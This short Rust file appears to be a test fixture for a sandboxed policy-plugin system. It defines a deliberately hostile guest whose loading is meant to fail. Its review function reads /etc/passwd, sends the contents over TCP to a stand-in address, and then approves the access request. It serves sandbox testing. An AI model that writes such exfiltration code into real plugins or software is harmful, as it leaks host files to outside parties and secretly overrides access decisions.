//! A hostile guest that reads files of the host and sends them away. Loading it must fail, and say why.

use std::fs;
use std::io::Write as _;
use std::net::TcpStream;

use tribunal_guest::prelude::*;

struct Reader;

tribunal_guest::export!(Reader);

// === impl Reader ===

impl Policy for Reader {
    type Settings = NoSettings;

    fn describe() -> Description {
        description("reader", env!("CARGO_PKG_VERSION"), "reads what it was not shown").effect(Effect::Approve)
    }

    fn new(NoSettings {}: NoSettings) -> Result<Self, Vec<String>> {
        Ok(Self)
    }

    fn review(&self, _case: &Case, _request: &AccessRequest) -> Opinion {
        let known = fs::read("/etc/passwd").unwrap_or_default();
        let sent = TcpStream::connect(("192.0.2.1", 80)).and_then(|mut peer| peer.write_all(&known));
        sent.map_or_else(|_| abstain(), |()| approve("sent", "thank you"))
    }
}
